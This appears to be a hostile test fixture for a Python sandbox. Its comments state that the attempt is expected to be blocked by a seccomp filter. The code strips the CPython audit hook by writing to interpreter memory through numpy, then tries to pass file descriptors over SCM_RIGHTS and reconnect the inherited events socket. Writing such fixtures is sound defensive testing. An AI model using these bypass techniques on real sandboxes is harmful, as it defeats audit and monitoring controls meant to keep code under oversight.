# tries: reaches around the audit hook, wraps the inherited events socket (descriptor 4) in a
#        socket object and sends the driver its own descriptors with SCM_RIGHTS (stdout, the
#        result pipe, the events socket itself), hoping the driver keeps them open and waits
#        forever for end of file, then connects the socket elsewhere.
# must record: the kernel filter refuses the first socket call on it (getsockname, which the
#              allowlist lacks: a run only ever send()s events), so nothing reaches the driver; the
#              driver still drops any passed descriptors and records such a message as forged.
# expect-status: error
# expect-event: seccomp.getsockname | deny by default: not a call signals() needs
# --- reach-around: unhook the C audit hook with numpy raw memory, then ctypes is free ---------
import struct, numpy as _np
def _mem(addr, n=1, t='<u8'):
    class _I: pass
    o = _I(); o.__array_interface__ = {'shape': (n,), 'typestr': t, 'data': (addr, False), 'version': 3}
    return _np.asarray(o)
def _dynsyms(path, want):
    b = open(path, 'rb').read()
    shoff, = struct.unpack_from('<Q', b, 0x28); shentsize, shnum = struct.unpack_from('<HH', b, 0x3a)
    secs = [struct.unpack_from('<IIQQQQIIQQ', b, shoff + i * shentsize) for i in range(shnum)]
    out = {}
    for s in secs:
        if s[1] != 11:  # SHT_DYNSYM
            continue
        strtab = secs[s[6]]
        for off in range(s[4], s[4] + s[5], 24):
            name_i, info, other, shndx, value, size = struct.unpack_from('<IBBHQQ', b, off)
            end = b.index(b'\0', strtab[4] + name_i)
            nm = b[strtab[4] + name_i:end].decode()
            if nm in want:
                out[nm] = value
    return out
def unhook():
    s = _dynsyms('/usr/lib/x86_64-linux-gnu/libpython3.11.so.1.0', {'_PyRuntime', 'PyLong_Type'})
    base = id(int) - s['PyLong_Type']
    _mem(base + s['_PyRuntime'] + 656)[0] = 0   # _PyRuntime.audit_hook_head = NULL (3.11)
def libc():
    unhook()
    import ctypes
    c = ctypes.CDLL(None, use_errno=True)
    c.syscall.restype = ctypes.c_long
    return ctypes, c
# ----------------------------------------------------------------------------------------------
import array, socket
def signals(df):
    unhook()
    s = socket.socket(fileno=4)
    for _ in range(20):
        try:
            s.sendmsg([b"x"], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, array.array("i", [1, 2, 3, 4]))],
                      socket.MSG_DONTWAIT)
        except OSError:
            pass
    try:
        s.connect("\0strataudit-hostile")
    except OSError:
        pass
    s.detach()
    return [0] * len(df)
